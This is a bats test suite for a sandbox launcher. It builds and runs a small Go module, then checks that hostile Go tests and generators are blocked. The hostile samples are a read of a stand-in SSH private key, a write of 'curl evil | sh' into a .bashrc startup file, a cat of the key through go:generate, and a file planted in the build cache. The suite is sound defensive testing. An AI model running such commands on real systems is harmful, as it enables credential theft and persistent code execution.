# go: builds a module of several packages, tests it, runs what it built; a hostile test or generator gets nothing.
# bats file_tags=large

bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages golang-go python3
	# What the controls compile with; the sandbox has a cache of its own.
	export GOCACHE=$BATS_FILE_TMPDIR/cache
	mkdir -p "$GOCACHE"
	chmod 777 "$GOCACHE"
	chmod 711 "$BATS_FILE_TMPDIR"
}

setup() {
	export GOFLAGS=-buildvcs=false GOPATH=/nonexistent
	residue_before
}

teardown() {
	residue_after
}

module() {
	mkdir -p tally cmd/report
	cat >go.mod <<'END'
module example.org/report

go 1.19
END
	cat >tally/tally.go <<'END'
// Package tally sums in many goroutines.
package tally

import "sync"

// Sum adds what fn says of 0 to n-1.
func Sum[T int | float64](n int, fn func(int) T) (sum T) {
	var lock sync.Mutex
	var group sync.WaitGroup
	for i := 0; i < n; i++ {
		group.Add(1)
		go func(i int) {
			defer group.Done()
			part := fn(i)
			lock.Lock()
			sum += part
			lock.Unlock()
		}(i)
	}
	group.Wait()
	return sum
}
END
	cat >tally/tally_test.go <<'END'
package tally

import (
	"fmt"
	"io"
	"net"
	"os/exec"
	"strings"
	"testing"
)

func TestSum(t *testing.T) {
	if got := Sum(1000, func(i int) int { return i }); got != 499500 {
		t.Fatalf("got %d", got)
	}
}

func TestServed(t *testing.T) {
	server, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		client, _ := server.Accept()
		fmt.Fprint(client, Sum(10, func(i int) float64 { return float64(i) }))
		client.Close()
	}()
	client, err := net.Dial("tcp", server.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if body, _ := io.ReadAll(client); string(body) != "45" {
		t.Fatalf("got %s", body)
	}
}

func TestChild(t *testing.T) {
	sort := exec.Command("sort", "-r")
	sort.Stdin = strings.NewReader("a\nb\n")
	if out, err := sort.Output(); err != nil || string(out) != "b\na\n" {
		t.Fatalf("got %q, %v", out, err)
	}
}

func BenchmarkSum(b *testing.B) {
	for i := 0; i < b.N; i++ {
		Sum(10, func(i int) int { return i })
	}
}
END
	cat >cmd/report/main.go <<'END'
package main

import (
	"encoding/json"
	"os"
	"runtime"
	"runtime/debug"

	"example.org/report/tally"
)

func main() {
	json.NewEncoder(os.Stdout).Encode(map[string]any{
		"sum":        tally.Sum(10000, func(i int) int { return len(make([]byte, 1<<15)) }),
		"processors": runtime.NumCPU(),
		"limit":      debug.SetMemoryLimit(-1) >> 20,
	})
}
END
}

builds() {
	module
	run launch -- sh -ec 'go vet ./... && go test -bench . ./... && go build -o report ./cmd/report && ./report'
	assert_status 0
	assert_output "ok  	example.org/report/tally"
	assert_output BenchmarkSum
	assert_line "{\"limit\":3072,\"processors\":$(nproc),\"sum\":327680000}"
	# It runs outside too, is its owner's, and no cache is left beside it.
	run ./report
	assert_output '"sum":327680000'
	[ "$(stat -c %u report)" = "$(stat -c %u .)" ]
	[ "$(find . -newer go.mod -name '*.a' | wc -l)" -eq 0 ]
	# A failing test is the command's own failure.
	mkdir -p broken
	echo 'package broken; import "testing"; func TestBroken(t *testing.T) { t.Error("broken") }' >broken/broken_test.go
	run launch -- go test ./broken
	assert_status 1
	assert_output "--- FAIL: TestBroken"
	# What is not there cannot be had, and Go says why.
	echo 'package tally; import _ "example.com/evil"' >tally/evil.go
	run launch -- sh -c 'go get example.com/evil; go build ./tally'
	assert_status 1
	assert_output 'GOPROXY=off'
}

@test "go vets, tests, benchmarks and builds a module" {
	each_launcher builds
}

# hostile CODE IMPORT...: a test that runs it. No more is imported than it takes: every launch compiles it all anew.
hostile() {
	local code=$1

	shift
	printf 'module example.org/evil\ngo 1.19\n' >go.mod
	{
		echo 'package evil'
		printf 'import "%s"\n' testing "$@"
		echo "func TestEvil(t *testing.T) { if err := func() error { $code }(); err != nil { t.Fatal(err) } }"
	} >evil_test.go
}

refuses_test() {
	local theirs=$TMP/theirs-$LAUNCHER

	mkdir -p "$theirs/.ssh"
	echo key >"$theirs/.ssh/id_ed25519"
	hostile "_, err := os.ReadFile(\"$theirs/.ssh/id_ed25519\"); return err" os
	refuses go test -count=1 -vet=off .
	assert_output 'no such file or directory'
	hostile "return os.WriteFile(\"$theirs/.bashrc\", []byte(\"curl evil | sh\"), 0600)" os
	refuses go test -count=1 -vet=off .
	assert_output 'no such file or directory'
	_listen
	hostile "_, err := net.Dial(\"tcp\", \"127.0.0.1:$PORT\"); return err" net
	refuses go test -count=1 -vet=off .
	assert_output 'connection refused'
	kill "$LISTENER"
	rm "$TMP/port"
	hostile 'child := exec.Command("true")
		child.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}
		return child.Run()' os/exec syscall
	refuses go test -count=1 -vet=off .
	assert_output 'operation not permitted'
}

# What the next build outside would link.
refuses_cache() {
	refuses sh -c "touch '$GOCACHE/planted'"
	rm -f "$GOCACHE/planted"
}

refuses_generator() {
	printf 'module example.org/evil\ngo 1.19\n' >go.mod
	rm -f evil_test.go
	printf 'package evil\n//go:generate cat %s\n' "$TMP/theirs-$LAUNCHER/.ssh/id_ed25519" >evil.go
	refuses go generate
	assert_output 'No such file or directory'
}

refusals() {
	refuses_test
	refuses_cache
	refuses_generator
	refuses_processes
	refuses_setuid
	refuses_memory 512M -s cgroup.memory.max=256M
}

@test "go lets a hostile test or generator read no key, write no start file or cache, call nobody" {
	each_launcher refusals
}
